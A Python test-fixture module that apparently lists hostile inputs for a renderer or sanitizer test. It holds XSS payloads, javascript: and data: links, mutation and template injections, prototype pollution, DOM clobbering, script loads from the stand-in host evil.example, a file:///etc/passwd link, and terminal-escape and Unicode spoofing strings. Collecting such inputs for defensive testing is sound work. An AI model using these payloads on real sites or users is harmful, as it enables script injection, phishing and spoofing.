"""Texts that would like to be more than text in a page: none of them may run, load, lead away or hide.

Whatever runs pushes to `window.__pwned`; whatever loads asks a server that is not ours; whatever changes an object that
is none of its own leaves `polluted` in it.
"""

from __future__ import annotations

from typing import NamedTuple

RUN = "__pwned.push(1)"
ELSEWHERE = "https://evil.example"
SHOT = f"{ELSEWHERE}/x.png"


class Hostile(NamedTuple):
    """A text, and a piece of it that a person has to see, as it stands, wherever the text is shown."""

    name: str
    text: str
    seen: str


SCRIPTS = [
    Hostile("script", f"<script>{RUN}</script>", "<script>"),
    Hostile("script-in-capitals", f"<ScRiPt>{RUN}</sCrIpT>", "<ScRiPt>"),
    Hostile("script-from-elsewhere", f'<script src="{ELSEWHERE}/x.js"></script>', "<script src"),
    Hostile("script-that-ends-another", f"</script><script>{RUN}</script>", "</script><script>"),
    Hostile("script-nested", f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<scr<script>ipt>"),
    Hostile("script-as-module", f'<script type="module">import "{ELSEWHERE}/x.mjs"</script>', 'type="module"'),
    Hostile("script-behind-a-comment", f"<!--><script>{RUN}</script>-->", "<!-->"),
    Hostile("script-behind-a-textarea", f"</textarea><script>{RUN}</script>", "</textarea>"),
    Hostile("script-behind-a-title", f"</title><script>{RUN}</script>", "</title>"),
    Hostile("script-in-cdata", f"<![CDATA[<script>{RUN}</script>]]>", "<![CDATA["),
    Hostile("script-in-json", f'{{"a":"</script><script>{RUN}</script>"}}', "</script>"),
]

ELEMENTS = [
    Hostile("image-error", f"<img src=x onerror={RUN}>", "<img src=x"),
    Hostile("image-error-quoted", f'"><img src=x onerror="{RUN}">', '"><img'),
    Hostile("image-error-slashed", f"<img/src/onerror={RUN}>", "<img/src"),
    Hostile("image-from-elsewhere", f'<img src="{SHOT}" srcset="{SHOT} 2x">', "<img src"),
    Hostile("svg-load", f"<svg onload={RUN}></svg>", "<svg onload"),
    Hostile("svg-script", f"<svg><script>{RUN}</script></svg>", "<svg><script>"),
    Hostile("svg-animate", f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>', "<svg><animate"),
    Hostile("svg-use", f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>', "<svg><use"),
    Hostile("svg-foreign-object", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", "<svg>"),
    Hostile("frame-with-a-document", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>', "<iframe srcdoc"),
    Hostile("frame-from-elsewhere", f'<iframe src="{ELSEWHERE}"></iframe>', "<iframe src"),
    Hostile("object", f'<object data="data:text/html,<script>{RUN}</script>"></object>', "<object data"),
    Hostile("embed", f'<embed src="{ELSEWHERE}/x.swf">', "<embed src"),
    Hostile("body-load", f"<body onload={RUN}>", "<body onload"),
    Hostile("details-toggle", f"<details open ontoggle={RUN}><summary>more</summary></details>", "<details open"),
    Hostile("input-focus", f"<input autofocus onfocus={RUN}>", "<input autofocus"),
    Hostile("video-error", f'<video><source onerror="{RUN}"></video>', "<video><source"),
    Hostile("audio-from-elsewhere", f'<audio autoplay src="{ELSEWHERE}/x.mp3">', "<audio autoplay"),
    Hostile("marquee-start", f"<marquee onstart={RUN}>", "<marquee"),
    Hostile("custom-element", f"<x-y tabindex=1 onfocus={RUN} autofocus>", "<x-y"),
    Hostile("template-element", f"<template><script>{RUN}</script></template>", "<template>"),
    Hostile("portal-button", f'<button popovertarget=x onclick="{RUN}">Play</button>', "<button"),
]

PAGES = [
    Hostile("refresh", f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">', "<meta http-equiv"),
    Hostile("policy", '<meta http-equiv="Content-Security-Policy" content="default-src *">', "<meta http-equiv"),
    Hostile("base", f'<base href="{ELSEWHERE}/">', "<base href"),
    Hostile("form", f'<form action="{ELSEWHERE}"><input type=submit></form>', "<form action"),
    Hostile("form-button", f'<button form=f formaction="javascript:{RUN}">Verify</button>', "<button form"),
    Hostile("preload", f'<link rel="preload" as="script" href="{ELSEWHERE}/x.js">', "<link rel"),
    Hostile("stylesheet", f'<link rel=stylesheet href="{ELSEWHERE}/x.css">', "<link rel"),
    Hostile("clobbered-body", "<form name=body><input name=firstChild></form>", "<form name=body>"),
    Hostile("clobbered-document", "<img name=getElementById><a id=location></a>", "<img name"),
    Hostile("clobbered-trap", "<a id=__pwned></a><a id=__pwned name=push></a>", "<a id=__pwned>"),
    Hostile("import-map", f'<script type=importmap>{{"imports":{{"x":"{ELSEWHERE}/"}}}}</script>', "type=importmap"),
]

STYLES = [
    Hostile("style", f"<style>@import '{ELSEWHERE}/x.css'; body{{display:none}}</style>", "<style>"),
    Hostile("style-attribute", '<div style="position:fixed;inset:0;background:#fff">gone</div>', "<div style"),
    Hostile("style-image", f"<p style=\"background:url('{SHOT}')\">seen</p>", "<p style"),
    Hostile("style-expression", f'<div style="width:expression({RUN})">old</div>', "expression("),
    Hostile("style-behind-a-comment", f"</style><script>{RUN}</script>/*", "</style>"),
]

LINKS = [
    Hostile("link-that-runs", f"[run](javascript:{RUN})", "run"),
    Hostile("link-in-capitals", f"[capitals](JaVaScRiPt:{RUN})", "capitals"),
    Hostile("link-with-entities", f"[entities](&#106;avascript&#58;{RUN})", "entities"),
    Hostile("link-with-named-entities", f"[named](javascript&colon;{RUN})", "named"),
    Hostile("link-with-a-tab", f"[tabbed](java\tscript:{RUN})", "tabbed"),
    Hostile("link-with-a-control", f"[controlled](\x01javascript:{RUN})", "controlled"),
    Hostile("link-in-percents", f"[percents](javascript%3A{RUN})", "percents"),
    Hostile("link-to-data", f"[data](data:text/html,<script>{RUN}</script>)", "data"),
    Hostile(
        "link-to-data-in-base64",
        "[base64](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkLnB1c2goMSk8L3NjcmlwdD4=)",
        "base64",
    ),
    Hostile("link-to-basic", "[basic](vbscript:msgbox(1))", "basic"),
    Hostile("link-to-a-file", "[file](file:///etc/passwd)", "file"),
    Hostile("link-to-a-blob", "[blob](blob:null/0)", "blob"),
    Hostile("link-with-a-title", f'[titled](https://a.example "x" onmouseover="{RUN}")', "titled"),
    Hostile("link-by-reference", f"[referred][r]\n\n[r]: javascript:{RUN}", "referred"),
    Hostile("link-in-brackets", f"<javascript:{RUN}>", "javascript:"),
    Hostile("link-in-a-link", f"[outer [inner](javascript:{RUN})](https://a.example)", "outer"),
    Hostile("link-as-an-element", f'<a href="javascript:{RUN}">click</a>', "<a href"),
    Hostile("link-that-leads-elsewhere", f"[https://bank.example]({ELSEWHERE})", "https://bank.example"),
    Hostile("image-that-loads", f"![loaded]({SHOT})", "loaded"),
    Hostile("image-that-runs", f"![ran](javascript:{RUN})", "ran"),
    Hostile("image-by-reference", f"![shot][s]\n\n[s]: {SHOT}", "shot"),
    Hostile("image-with-markup", f'![x" onerror="{RUN}]({SHOT})', "onerror"),
]

TEMPLATES = [
    Hostile("braces", f"{{{{constructor.constructor('{RUN}')()}}}}", "constructor.constructor"),
    Hostile("svelte-html", f"{{@html '<img src=x onerror={RUN}>'}}", "@html"),
    Hostile("dollar-braces", f"${{{RUN}}}", "${"),
    Hostile("percent-braces", f"<%= {RUN} %>", "<%="),
    Hostile("script-expression", f"';{RUN};//", "';"),
    Hostile("prototype", '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}', "__proto__"),
    Hostile("property-names", "__proto__ constructor toString hasOwnProperty", "hasOwnProperty"),
]

MUTATIONS = [
    Hostile("mutation-math", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", "<math><mtext>"),
    Hostile("mutation-noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', "<noscript>"),
    Hostile("mutation-svg-style", f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">', "<svg></p>"),
    Hostile("mutation-listing", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", "<listing>"),
    Hostile("mutation-entities", f"&lt;script&gt;{RUN}&lt;/script&gt;", "script"),
    Hostile("mutation-in-code", f"```html\n</code></pre><script>{RUN}</script>\n```", "</code></pre>"),
    Hostile("mutation-fence-language", f'```"><script>{RUN}</script>\ncode\n```', "code"),
    Hostile("mutation-in-a-table", f"| a |\n| --- |\n| <img src=x onerror={RUN}> |", "<img src=x"),
    Hostile("mutation-in-a-heading", f"# <svg/onload={RUN}>", "<svg/onload"),
]

CONTROLS = [
    Hostile("ansi-colour", "\x1b[31mred\x1b[0m and \x1b[2J cleared", "cleared"),
    Hostile("ansi-hyperlink", f"\x1b]8;;{ELSEWHERE}\x1b\\terminal\x1b]8;;\x1b\\", "terminal"),
    Hostile("ansi-title", "\x1b]0;owned\x07window", "window"),
    Hostile("c1-controls", "\x9b31mcontrol\x9d0;x\x9c", "control"),
    Hostile("carriage-return", "real\rfake", "fake"),
    Hostile("backspaces", "safe\x08\x08\x08\x08evil", "evil"),
    Hostile("bidi-override", "user\u202egnp.exe\u202c", "gnp.exe"),
    Hostile("bidi-isolates", "a\u2066b\u2067c\u2068d\u2069e", "e"),
    Hostile("zero-width", "pay\u200bpal\u200c\u200d\u2060\ufeff", "pal"),
    Hostile("line-separators", "one\u2028two\u2029three", "three"),
    Hostile("right-to-left", "שלום <b>עולם</b>", "<b>"),
    Hostile("combining", "Z" + "\u0300\u0301\u0302\u0303" * 40 + "algo", "algo"),
    Hostile("look-alikes", "раураl.example ⅼogin", "ⅼogin"),
    Hostile("tag-characters", "hidden\U000e0068\U000e0069", "hidden"),
    Hostile("interlinear", "x\ufff9y\ufffaz\ufffb", "z"),
]

SIZES = [
    Hostile("long-word", "W" * 5_000, "WWWW"),
    Hostile("long-line", "word " * 1_000 + "end", "word"),
    Hostile("many-lines", "\n".join(f"line {number}" for number in range(300)), "line 0"),
    Hostile("deep-quotes", ">" * 400 + " deep", "deep"),
    Hostile("deep-lists", "\n".join(f"{'  ' * depth}- item {depth}" for depth in range(60)), "item 0"),
    Hostile("many-brackets", "[" * 3_000 + "x", "["),
    Hostile("many-stars", "*a_" * 1_500, "a"),
    Hostile("many-backticks", " ".join("`" * number for number in range(1, 90)), "`"),
]

ALL = [*SCRIPTS, *ELEMENTS, *PAGES, *STYLES, *LINKS, *TEMPLATES, *MUTATIONS, *CONTROLS, *SIZES]
